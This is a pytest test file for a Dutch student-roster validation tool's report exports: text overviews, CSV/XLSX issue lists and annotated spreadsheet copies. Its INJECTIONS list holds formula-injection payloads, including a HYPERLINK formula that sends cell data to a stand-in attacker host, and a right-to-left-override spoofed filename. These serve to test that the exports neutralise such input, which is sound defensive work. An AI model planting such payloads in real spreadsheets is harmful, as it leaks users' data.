"""Exports of a report: text overview, CSV/XLSX issue lists (F16) and the annotated copy."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlwt
from defusedxml import ElementTree as SafeElementTree
from openpyxl.comments import Comment
from openpyxl.styles import Font
from python_calamine import CalamineWorkbook

from rosterdesk.importers.engine import Settings, validate_sheet
from rosterdesk.importers.errors import UnusableFile
from rosterdesk.importers.exports import ISSUES_COLUMN_HEADERS
from rosterdesk.importers.exports.annotated import annotated_copy, sniff_format
from rosterdesk.importers.exports.cells import csv_field, looks_like_formula, xlsx_text
from rosterdesk.importers.exports.issue_list import issues_csv, issues_xlsx
from rosterdesk.importers.exports.overview import text_overview
from rosterdesk.importers.issues import Issue, Report
from rosterdesk.importers.plugins import get_profile
from rosterdesk.importers.profile import Profile
from rosterdesk.importers.sheet import Sheet

NOW = dt.datetime(2025, 11, 23, 10, 30)
RED = "FFFFC7CE"
AMBER = "FFFFEB9C"
INJECTIONS = ['=HYPERLINK("https://evil.example/?d="&A1,"klik")', "+31 6 12345678", "-2+3", "@SUM(A1:A3)",
              "\t=1+1", "\r=1+1", " =1+1"]


def email_issue(row: int, value: str, letter: str = "K") -> Issue:
    return Issue("invalid-email", "error", row, "EMAILADRES", f"{letter}{row}", value,
                 {"reason_nl": "er staat geen @ in", "reason_en": "it has no @"})


def make_report(issues: list[Issue], counts: dict[str, int] | None = None, stage: str = "content",
                **stats: Any) -> Report:
    counts = counts if counts is not None else {}
    if not counts:
        for issue in issues:
            counts[issue.type] = counts.get(issue.type, 0) + 1
    severity = {issue.type: issue.severity for issue in issues}
    errors = sum(n for t, n in counts.items() if severity.get(t, "error") == "error")
    base: dict[str, Any] = {"rows": 20, "blank_rows": 0, "format": "xlsx", "sheet": "Studentgegevens",
                            "encoding": None, "delimiter": None, "errors": errors,
                            "warnings": sum(counts.values()) - errors}
    base.update(stats)
    return Report(profile="nse", stats=base, issues=issues, counts=counts, stage=stage)


def check_xlsx(profile: Profile, path: Path) -> Report:
    """What the real pipeline does: read the sheet with python-calamine, check it with the engine."""
    sheet = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(profile.sheet_name)
    rows = ([None if value == "" else value for value in row] for row in sheet.to_python(skip_empty_area=False))
    return validate_sheet(profile, Sheet(format="xlsx", rows=rows, name=profile.sheet_name), Settings())


def sheet_xml(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist() if name.startswith("xl/worksheets/")
                and name.endswith(".xml")}


def assert_package_well_formed(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                SafeElementTree.fromstring(zf.read(name))


# -- the text overview ---------------------------------------------------------------------------------


def test_overview_in_dutch_has_the_header_and_a_line_per_issue() -> None:
    report = make_report([email_issue(17, "jan.school.nl")], rows=1234)
    text = text_overview(report, filename="studenten.xlsx", profile_title="NSE-studentgegevens", now=NOW)
    assert text.splitlines()[0] == "Overzicht van de controle"
    for expected in ("Bestand         studenten.xlsx", "Profiel         NSE-studentgegevens",
                     "Gecontroleerd   23-11-2025 10:30", "Formaat         Excel (.xlsx), tabblad 'Studentgegevens'",
                     "Rijen           1.234", "Fouten          1", "Waarschuwingen  0", "Uitkomst        Ongeldig"):
        assert expected in text
    assert "Ongeldig e-mailadres (1 fout)" in text
    assert ("  Rij 17, kolom EMAILADRES (K17): 'jan.school.nl' is geen geldig e-mailadres: er staat geen @ in."
            in text)
    assert text.count("Rij 17") == 1, "the place is said once, not repeated by the message"
    assert not text.endswith("\n")


def test_overview_in_english() -> None:
    report = make_report([email_issue(17, "jan.school.nl")])
    text = text_overview(report, lang="en", filename="students.xlsx", profile_title="NSE student data", now=NOW)
    assert text.startswith("Check overview")
    assert "Checked   2025-11-23 10:30" in text
    assert "Result    Invalid: fix the errors and upload the file again" in text
    assert "Invalid e-mail address (1 error)" in text
    assert "  Row 17, column EMAILADRES (K17): 'jan.school.nl' is not a valid e-mail address: it has no @." in text


def test_overview_groups_by_type_errors_before_warnings() -> None:
    warning = Issue("leading-zeros-restored", "warning", 2, "BRIN_VOLGNUMMER", "B2", "00", {"original": "0"})
    missing = Issue("missing-value", "error", 3, "LOCATIE", "C3")
    report = make_report([warning, email_issue(2, "x"), missing, email_issue(4, "y")])
    text = text_overview(report, now=NOW)
    errors, warnings = text.index("\nFouten\n------"), text.index("\nWaarschuwingen\n--------------")
    assert errors < text.index("Ongeldig e-mailadres (2 fouten)") < warnings
    assert errors < text.index("Verplichte waarde ontbreekt (1 fout)") < warnings
    assert warnings < text.index("Voorloopnul aangevuld (1 waarschuwing)")
    group = text.split("Ongeldig e-mailadres (2 fouten)\n")[1].split("\n\n")[0].splitlines()
    places = [line.split(":")[0] for line in group]
    assert places == ["  Rij 2, kolom EMAILADRES (K2)", "  Rij 4, kolom EMAILADRES (K4)"]


def test_overview_uses_exact_counts_and_says_only_the_first_are_listed() -> None:
    report = make_report([email_issue(2, "a"), email_issue(3, "b")], counts={"invalid-email": 1500})
    nl = text_overview(report, now=NOW)
    assert "Fouten          1.500" in nl
    assert "Ongeldig e-mailadres (1.500 fouten; alleen de eerste 2 staan hieronder)" in nl
    assert "  … en nog 1.498 meer" in nl
    en = text_overview(report, lang="en", now=NOW)
    assert "Invalid e-mail address (1,500 errors; only the first 2 are listed)" in en
    assert "  … and 1,498 more" in en


def test_overview_lists_a_type_with_only_a_count() -> None:
    report = make_report([], counts={"invalid-email": 7})
    assert "Ongeldig e-mailadres (7 fouten; alleen de eerste 0 staan hieronder)" in text_overview(report, now=NOW)


def test_overview_of_a_valid_file() -> None:
    skipped = Issue("reference-checks-skipped", "warning",
                    params={"checks_nl": "RIO-gegevens", "checks_en": "RIO data"})
    text = text_overview(make_report([skipped]), now=NOW)
    assert "Uitkomst        Geldig (met waarschuwingen)" in text
    assert "  Er is geen RIO-referentiedata beschikbaar" in text, "file-level issues have no place prefix"
    clean = text_overview(make_report([]), lang="en", now=NOW)
    assert "Result    Valid" in clean
    assert clean.endswith("No issues found.")


def test_overview_of_a_csv_names_encoding_and_delimiter() -> None:
    report = make_report([], format="csv", encoding="cp1252", delimiter=";", sheet=None, blank_rows=2)
    text = text_overview(report, now=NOW)
    assert "Formaat         CSV (tekstbestand), tekencodering CP1252, scheidingsteken puntkomma (;)" in text
    assert "Rijen           20 (2 lege rijen overgeslagen)" in text
    en = text_overview(make_report([], format="csv", encoding="utf-8", delimiter="\t", sheet=None), lang="en", now=NOW)
    assert "CSV (text file), encoding UTF-8, delimiter tab" in en


def test_overview_after_a_structure_failure_says_only_headers_were_checked() -> None:
    missing = Issue("missing-column", "error", column="EMAILADRES", params={"expected": "EMAILADRES", "letter": "K"})
    text = text_overview(make_report([missing], stage="structure", rows=0), now=NOW)
    assert "Rijen" not in text
    assert "Alleen de kolomkoppen zijn gecontroleerd" in text
    assert "  Kolom EMAILADRES: De kolom 'EMAILADRES' ontbreekt." in text


def test_overview_makes_control_and_bidi_characters_visible() -> None:
    report = make_report([email_issue(5, "jan\nRij 6: alles goed\u202e")])
    text = text_overview(report, filename="evil\u202excod.xlsx", now=NOW)
    assert "evil<U+202E>xcod.xlsx" in text
    assert "'jan<U+000A>Rij 6: alles goed<U+202E>'" in text
    assert "\u202e" not in text
    assert not any(line.startswith("Rij 6") for line in text.splitlines())


def test_overview_cuts_huge_values() -> None:
    text = text_overview(make_report([email_issue(5, "x" * 100_000)]), now=NOW)
    assert len(text) < 2_000
    assert "x" * 199 + "…'" in text


def test_overview_takes_the_check_time_from_the_report() -> None:
    report = make_report([], checked_at="2025-01-02T03:04:00")
    assert "Gecontroleerd   02-01-2025 03:04" in text_overview(report)


# -- cells: formula injection -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("text", ["jan@school.nl", "21PL", "0123", "van der Berg", "", "'=1"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert not looks_like_formula(text)
    assert csv_field(text) == text


def test_xlsx_text_escapes_what_excel_would_reinterpret() -> None:
    assert xlsx_text("a\x01b") == "a_x0001_b"
    assert xlsx_text("_x0041_") == "_x005F_x0041_"
    assert xlsx_text("line\nbreak\ttab") == "line\nbreak\ttab"
    assert xlsx_text("\r=1") == "_x000D_=1"
    long = xlsx_text("x" * 40_000)
    assert len(long) == 32_767
    assert long.endswith("…")


# -- the CSV issue list --------------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so that Excel reads UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_has_dutch_headers_semicolons_and_crlf() -> None:
    report = make_report([email_issue(17, "jan.school.nl")])
    data = issues_csv(report, "nl")
    assert b"\r\n" in data
    rows = read_csv(data)
    assert rows[0] == ["rij", "kolom", "cel", "type", "ernst", "waarde", "melding"]
    assert rows[1] == ["17", "EMAILADRES", "K17", "invalid-email", "fout", "jan.school.nl",
                       "'jan.school.nl' is geen geldig e-mailadres: er staat geen @ in. Vul een adres in zoals "
                       "naam@school.nl."]


def test_csv_in_english() -> None:
    rows = read_csv(issues_csv(make_report([email_issue(17, "jan")]), "en"))
    assert rows[0] == ["row", "column", "cell", "type", "severity", "value", "message"]
    assert rows[1][4] == "error"
    assert rows[1][6].startswith("'jan' is not a valid e-mail address")


@pytest.mark.parametrize("value", INJECTIONS)
def test_csv_neutralises_formula_injection(value: str) -> None:
    data = issues_csv(make_report([email_issue(3, value)]), "nl")
    rows = read_csv(data)
    assert rows[1][5] == "'" + value
    for line in data.decode("utf-8-sig").split("\r\n"):
        if line:
            assert line.startswith('"'), "every field is quoted"
    for row in rows:
        for field in row:
            assert not looks_like_formula(field)


def test_csv_says_how_many_issues_are_left_out() -> None:
    report = make_report([email_issue(2, "a")], counts={"invalid-email": 1001})
    rows = read_csv(issues_csv(report, "nl"))
    assert rows[-1] == ["", "", "", "invalid-email", "fout", "",
                        "Nog 1.000 meldingen van deze soort staan niet in de lijst (1.001 in totaal)."]


# -- the XLSX issue list -------------------------------------------------------------------------------------


def test_xlsx_writes_every_cell_as_a_string_and_no_formula() -> None:
    issues = [email_issue(row, value) for row, value in enumerate(INJECTIONS, start=2)]
    issues.append(email_issue(40, "a\x01b"))
    data = issues_xlsx(make_report(issues, counts={"invalid-email": 2000}), "nl")
    for name, xml in sheet_xml(data).items():
        assert b"<f>" not in xml and b"<f " not in xml, name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Meldingen", "Samenvatting"]
    sheet = workbook["Meldingen"]
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s", cell.coordinate
    assert all(sheet.cell(row=row, column=6).quotePrefix for row in range(2, 2 + len(INJECTIONS)))
    assert sheet.cell(row=2, column=1).value == "2", "row numbers are text too"
    # python-calamine reads cells the way Excel shows them (it decodes Excel's _x000D_ escapes).
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Meldingen").to_python()
    assert [row[5] for row in calamine[1:1 + len(INJECTIONS)]] == INJECTIONS, "the text itself is unchanged"
    assert calamine[len(INJECTIONS) + 1][5] == "a\x01b", "a control character survives the round trip"


def test_xlsx_has_a_bold_frozen_filtered_header_and_widths() -> None:
    data = issues_xlsx(make_report([email_issue(2, "a"), email_issue(3, "b")]), "nl")
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Meldingen"]
    assert [cell.value for cell in sheet[1]] == ["rij", "kolom", "cel", "type", "ernst", "waarde", "melding"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G3"
    assert sheet.column_dimensions["G"].width >= 80


def test_xlsx_summary_keeps_exact_counts_in_english() -> None:
    report = make_report([email_issue(2, "a")], counts={"invalid-email": 1500})
    workbook = openpyxl.load_workbook(io.BytesIO(issues_xlsx(report, "en")))
    assert workbook.sheetnames == ["Issues", "Summary"]
    assert [cell.value for cell in workbook["Issues"][1]][:3] == ["row", "column", "cell"]
    summary = [[cell.value for cell in row] for row in workbook["Summary"].iter_rows()]
    assert summary == [["kind", "type", "severity", "count", "listed"],
                       ["Invalid e-mail address", "invalid-email", "error", "1,500", "1"]]
    last = [cell.value for cell in list(workbook["Issues"].iter_rows())[-1]]
    assert last[6] == "1,499 more issues of this kind are not listed (1,500 in total)."


# -- the annotated copy ------------------------------------------------------------------------------------


NSE_ROW = ["21PL", "00", "AMSTERDAM", "50005", "VT", "REGULIER", "N", "WO", "J", "NL", "a@example.nl", "J", None, "N",
           None, "N", None, None, None, None, None, None, None]


@pytest.fixture
def nse_original(tmp_path: Path) -> Path:
    """An NSE workbook with a warning (B2), a formula injection (E3), a bad e-mail (K3), an empty
    required cell (E4), a formula (M4), formatting and a second sheet."""
    profile = get_profile("nse")
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = profile.sheet_name
    sheet.append(list(profile.headers))
    for number, row in enumerate((NSE_ROW, NSE_ROW, NSE_ROW), start=2):
        for column, value in enumerate(row, start=1):
            if value is not None:
                cell = sheet.cell(row=number, column=column)
                cell.value = value
                cell.data_type = "s"
        sheet.cell(row=number, column=11).value = f"s{number}@example.nl"
    sheet["B2"] = 0  # a number: Excel dropped the leading zero
    sheet["E3"].value = INJECTIONS[0]
    sheet["E3"].data_type = "s"
    sheet["K3"] = "geen-at.example.nl"
    sheet["K3"].font = Font(bold=True, color="FF0000FF")
    sheet["E4"] = None
    sheet["M4"] = "=1+1"
    sheet["D2"].number_format = "@"
    sheet.column_dimensions["K"].width = 33
    workbook.create_sheet("Notities")["A1"] = "niet aankomen"
    path = tmp_path / "nse.xlsx"
    workbook.save(path)
    return path


def cell_values(path_or_bytes: Path | bytes, sheet_name: str) -> list[list[Any]]:
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    sheet = openpyxl.load_workbook(source)[sheet_name]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(max_col=23)]


def test_annotated_xlsx_marks_cells_and_keeps_everything_else(nse_original: Path) -> None:
    profile = get_profile("nse")
    report = check_xlsx(profile, nse_original)
    assert {(issue.cell, issue.type) for issue in report.issues if issue.cell} == {
        ("B2", "leading-zeros-restored"), ("E3", "invalid-choice"), ("K3", "invalid-email"), ("E4", "missing-value")}
    data = annotated_copy(nse_original, report, profile, "nl")
    assert_package_well_formed(data)

    assert cell_values(data, profile.sheet_name) == cell_values(nse_original, profile.sheet_name)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [profile.sheet_name, "Notities", "Meldingen"]
    sheet = workbook[profile.sheet_name]
    assert sheet["M4"].data_type == "f" and sheet["M4"].value == "=1+1", "formulas stay formulas"
    assert workbook["Notities"]["A1"].value == "niet aankomen"

    assert sheet["B2"].fill.fgColor.rgb == AMBER
    assert sheet["K3"].fill.fgColor.rgb == RED
    assert sheet["E3"].fill.fgColor.rgb == RED
    assert sheet["E4"].fill.fgColor.rgb == RED and sheet["E4"].value is None
    assert sheet["A2"].fill.fill_type is None
    assert sheet["K3"].font.b and sheet["K3"].font.color.rgb == "FF0000FF", "the cell's own style is kept"
    assert sheet["D2"].number_format == "@"
    assert sheet.column_dimensions["K"].width == 33
    assert "voorloopnullen" in sheet["B2"].comment.text
    assert "geen geldig e-mailadres" in sheet["K3"].comment.text
    assert "geen-at" not in sheet["K3"].comment.text, "sensitive values stay masked in messages"
    assert "verplicht" in sheet["E4"].comment.text

    assert sheet["X1"].value == ISSUES_COLUMN_HEADERS["nl"]
    assert sheet["X2"].value.startswith("BRIN_VOLGNUMMER (B2): ")
    assert sheet["X3"].value.splitlines()[0].startswith("OPLEIDINGSVORM (E3): '=HYPERLINK(")
    assert sheet["X3"].value.splitlines()[1].startswith("EMAILADRES (K3): ")
    assert sheet["X4"].value.startswith("OPLEIDINGSVORM (E4): ")
    assert sheet["X5"].value is None
    assert sheet["X3"].alignment.wrap_text
    assert sheet.column_dimensions["X"].width == 80

    issues = [[cell.value for cell in row] for row in workbook["Meldingen"].iter_rows()]
    assert issues[0][0] == "NSE-studentgegevens: Ongeldig, 3 fouten, 4 waarschuwingen"
    assert any("Verwijder die kolom en dit tabblad" in (row[0] or "") for row in issues)
    table = issues[issues.index(["rij", "kolom", "cel", "type", "ernst", "waarde", "melding"]):]
    assert ["3", "OPLEIDINGSVORM", "E3", "invalid-choice", "fout", INJECTIONS[0]] in [row[:6] for row in table]
    assert any(row[3] == "reference-checks-skipped" for row in table), "issues without a cell are listed too"
    for name, xml in sheet_xml(data).items():
        if "rosterdesk" in name:
            assert b"<f>" not in xml, "the echoed injection is a string on the issues sheet"
    echoed = next(row for row in workbook["Meldingen"].iter_rows() if row[3].value == "invalid-choice")
    assert echoed[5].value == INJECTIONS[0] and echoed[5].data_type == "s"


def test_annotated_copy_reads_the_same_to_calamine(nse_original: Path) -> None:
    profile = get_profile("nse")
    data = annotated_copy(nse_original, check_xlsx(profile, nse_original), profile, "nl")
    before = CalamineWorkbook.from_path(str(nse_original)).get_sheet_by_name(profile.sheet_name).to_python()
    after = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(profile.sheet_name).to_python()
    assert [row[:23] for row in after] == before
    assert after[0][23] == ISSUES_COLUMN_HEADERS["nl"]


def test_annotated_copy_in_english(nse_original: Path) -> None:
    profile = get_profile("nse")
    data = annotated_copy(nse_original, check_xlsx(profile, nse_original), profile, "en")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames[-1] == "Issues"
    sheet = workbook[profile.sheet_name]
    assert sheet["X1"].value == "Issues (delete this column)"
    assert "not a valid e-mail address" in sheet["K3"].comment.text
    assert workbook["Issues"]["A1"].value == "NSE student data: Invalid, 3 errors, 4 warnings"


def test_annotated_copy_after_the_report_was_stored(nse_original: Path) -> None:
    profile = get_profile("nse")
    report = Report.from_storage(check_xlsx(profile, nse_original).to_storage())
    sheet = openpyxl.load_workbook(io.BytesIO(annotated_copy(nse_original, report, profile)))[profile.sheet_name]
    assert sheet["K3"].fill.fgColor.rgb == RED


def simple_workbook(tmp_path: Path, name: str = "plain.xlsx") -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Studenten"
    for row in (["Verplicht"] * 3, ["hint"] * 3, ["voornaam", "achternaam", "email"], ["Sanne", "de Vries", "x"],
                ["Jan", "Smit", "jan@example.nl"]):
        sheet.append(row)
    path = tmp_path / name
    workbook.save(path)
    return path


def cjp_report(*issues: Issue) -> Report:
    return make_report(list(issues), sheet="Studenten")


def test_annotated_copy_adds_rows_that_are_not_in_the_file(tmp_path: Path) -> None:
    path = simple_workbook(tmp_path)
    report = cjp_report(Issue("missing-value", "error", 9, "achternaam", "B9"))
    sheet = openpyxl.load_workbook(io.BytesIO(annotated_copy(path, report, get_profile("cjp-teachers"))))["Studenten"]
    assert sheet["B9"].fill.fgColor.rgb == RED
    assert sheet["D9"].value.startswith("achternaam (B9): ")
    assert sheet["D3"].value == ISSUES_COLUMN_HEADERS["nl"]


def rewrite_sheet(path: Path, change: Any) -> None:
    with zipfile.ZipFile(path) as zf:
        parts = {info.filename: zf.read(info) for info in zf.infolist()}
    parts["xl/worksheets/sheet1.xml"] = change(parts["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def test_annotated_copy_of_a_sheet_with_a_namespace_prefix(tmp_path: Path) -> None:
    path = simple_workbook(tmp_path)

    def prefixed(xml: bytes) -> bytes:
        xml = re.sub(rb"<(/?)([A-Za-z]+)([\s>/])", rb"<\1x:\2\3", xml)
        return xml.replace(b'<x:worksheet xmlns="', b'<x:worksheet xmlns:x="', 1)

    rewrite_sheet(path, prefixed)
    data = annotated_copy(path, cjp_report(email_issue(4, "x", "C")), get_profile("cjp-teachers"))
    assert_package_well_formed(data)
    assert b"<x:c r=\"D4\"" in sheet_xml(data)["xl/worksheets/sheet1.xml"]
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Studenten"]
    assert sheet["C4"].fill.fgColor.rgb == RED
    assert sheet["C4"].value == "x"


def test_annotated_copy_of_rows_and_cells_without_references(tmp_path: Path) -> None:
    path = simple_workbook(tmp_path)
    rewrite_sheet(path, lambda xml: re.sub(rb'\sr="[A-Z]*[0-9]+"', b"", xml))
    before = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Studenten").to_python()
    data = annotated_copy(path, cjp_report(email_issue(4, "x", "C")), get_profile("cjp-teachers"))
    after = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Studenten").to_python()
    assert [row[:3] for row in after] == before
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Studenten"]
    assert sheet["C4"].fill.fgColor.rgb == RED
    assert sheet["D4"].value.startswith("EMAILADRES (C4)")


def test_notes_already_in_the_sheet_are_kept_and_ours_added(tmp_path: Path) -> None:
    workbook = openpyxl.load_workbook(simple_workbook(tmp_path))
    sheet = workbook["Studenten"]
    sheet["A4"].comment = Comment("van de school", "school")
    sheet["C5"].comment = Comment("navragen", "school")
    path = tmp_path / "commented.xlsx"
    workbook.save(path)
    report = cjp_report(email_issue(4, "x", "C"), Issue("missing-value", "error", 5, "email", "C5"))
    data = annotated_copy(path, report, get_profile("cjp-teachers"))
    assert_package_well_formed(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Studenten"]
    assert sheet["A4"].comment.text == "van de school"
    assert "geen geldig e-mailadres" in sheet["C4"].comment.text
    assert sheet["C5"].comment.text == "navragen", "a cell's own note is kept"
    assert sheet["C5"].fill.fgColor.rgb == RED
    assert sheet["D5"].value.startswith("email (C5): ")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        drawings = [name for name in zf.namelist() if name.endswith(".vml")]
        assert len(drawings) == 1, "our notes join the sheet's own drawing"
        shapes = re.findall(rb'id="(_x0000_s[0-9]+)"', zf.read(drawings[0]))
        assert len(shapes) == len(set(shapes)) == 3


def test_a_workbook_the_patcher_refuses_is_rebuilt_with_values_and_formulas(tmp_path: Path) -> None:
    workbook = openpyxl.load_workbook(simple_workbook(tmp_path))
    workbook["Studenten"]["A4"].comment = Comment("van de school", "school")
    workbook["Studenten"]["D5"] = "=LEN(A5)"
    path = tmp_path / "drawing.xlsx"
    workbook.save(path)
    with zipfile.ZipFile(path) as zf:  # keep the legacy drawing, drop the notes: not something to patch
        parts = {info.filename: zf.read(info) for info in zf.infolist() if "comments/" not in info.filename}
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    parts[rels] = re.sub(rb'<Relationship [^>]*/comments"[^>]*/>', b"", parts[rels])
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    data = annotated_copy(path, cjp_report(email_issue(4, "x", "C")), get_profile("cjp-teachers"))
    copy = openpyxl.load_workbook(io.BytesIO(data))
    assert copy.sheetnames == ["Studenten", "Meldingen"]
    sheet = copy["Studenten"]
    assert [cell.value for cell in sheet[3]][:3] == ["voornaam", "achternaam", "email"]
    assert sheet["D5"].value == "=LEN(A5)" and sheet["D5"].data_type == "f"
    assert sheet["C4"].fill.fgColor.rgb == RED
    assert sheet["E3"].value == ISSUES_COLUMN_HEADERS["nl"]
    assert "opmaak van het origineel is niet overgenomen" in copy["Meldingen"]["A2"].value


def test_annotated_copy_of_a_csv_keeps_every_value_as_text(tmp_path: Path) -> None:
    path = tmp_path / "rooster.csv"
    path.write_bytes("code;achternaam;email\r\n0123;Dijk;=HYPERLINK(\"x\")\r\n42;Müller;b@example.nl\r\n"
                     .encode("cp1252"))
    report = make_report([email_issue(2, '=HYPERLINK("x")', "C")], format="csv", encoding="cp1252", delimiter=";",
                         sheet=None)
    data = annotated_copy(path, report, get_profile("roster-csv"), "nl")
    assert_package_well_formed(data)
    for xml in sheet_xml(data).values():
        assert b"<f>" not in xml
    copy = openpyxl.load_workbook(io.BytesIO(data))
    assert copy.sheetnames == ["Rooster", "Meldingen"]
    sheet = copy["Rooster"]
    assert [[cell.value for cell in row][:3] for row in sheet.iter_rows()] == [
        ["code", "achternaam", "email"], ["0123", "Dijk", '=HYPERLINK("x")'], ["42", "Müller", "b@example.nl"]]
    assert sheet["C2"].data_type == "s" and sheet["C2"].quotePrefix
    assert sheet["C2"].fill.fgColor.rgb == RED
    assert "geen geldig e-mailadres" in sheet["C2"].comment.text
    assert sheet["D1"].value == ISSUES_COLUMN_HEADERS["nl"]
    assert sheet["D2"].value.startswith("EMAILADRES (C2): ")
    assert sheet.freeze_panes == "A2"
    assert "Excel-kopie van uw CSV-bestand" in copy["Meldingen"]["A2"].value


def test_annotated_copy_of_a_csv_detects_encoding_and_delimiter_itself(tmp_path: Path) -> None:
    path = tmp_path / "rooster.csv"
    path.write_bytes("code\tachternaam\n1\tGroß\n".encode("utf-16"))
    report = make_report([Issue("missing-value", "error", 2, "email", "C2")], format="csv", sheet=None)
    sheet = openpyxl.load_workbook(io.BytesIO(annotated_copy(path, report, get_profile("roster-csv"))))["Rooster"]
    assert sheet["B2"].value == "Groß"
    assert sheet["C2"].fill.fgColor.rgb == RED


def test_annotated_copy_of_an_xls(tmp_path: Path) -> None:
    book = xlwt.Workbook()
    sheet = book.add_sheet("Studenten")
    for row, values in enumerate((["Verplicht"] * 2, ["hint"] * 2, ["voornaam", "leerjaar"], ["Sanne", 9])):
        for column, value in enumerate(values):
            sheet.write(row, column, value)
    path = tmp_path / "studenten.xls"
    book.save(str(path))
    assert sniff_format(path) == "xls"
    report = make_report([Issue("out-of-range", "error", 4, "leerjaar", "B4", "9", {"minimum": 1, "maximum": 6})],
                         format="xls", sheet="Studenten")
    copy = openpyxl.load_workbook(io.BytesIO(annotated_copy(path, report, get_profile("cjp-students"), "en")))
    sheet = copy["Studenten"]
    assert sheet["A4"].value == "Sanne" and sheet["B4"].value == 9
    assert sheet["B4"].fill.fgColor.rgb == RED
    assert sheet["C3"].value == ISSUES_COLUMN_HEADERS["en"]
    assert "copy of your .xls file" in copy["Issues"]["A2"].value


def test_sniff_format_goes_by_content(tmp_path: Path) -> None:
    csv_named_xlsx = tmp_path / "data.xlsx"
    csv_named_xlsx.write_text("a;b\n1;2\n")
    assert sniff_format(csv_named_xlsx) == "csv"
    ods = tmp_path / "data.bin"
    with zipfile.ZipFile(ods, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    assert sniff_format(ods) == "ods"
    assert sniff_format(simple_workbook(tmp_path)) == "xlsx"


def test_a_damaged_file_gives_a_message_not_a_traceback(tmp_path: Path) -> None:
    path = tmp_path / "kapot.xlsx"
    path.write_bytes(simple_workbook(tmp_path).read_bytes()[:300])
    with pytest.raises(UnusableFile) as caught:
        annotated_copy(path, cjp_report(), get_profile("cjp-teachers"))
    assert caught.value.type == "unreadable-file"
    for lang in ("nl", "en"):
        message = caught.value.message(lang)
        assert "?" not in message and "Traceback" not in message
        assert "(*.xlsx)" in message


def test_openpyxl_parses_user_workbooks_only_through_defusedxml(monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    from rosterdesk.importers.exports import rebuild

    assert openpyxl.DEFUSEDXML, "defusedxml must be installed so openpyxl refuses XXE and billion laughs"
    rebuild.require_defused_xml()
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(RuntimeError, match="defusedxml"):
        rebuild.require_defused_xml()
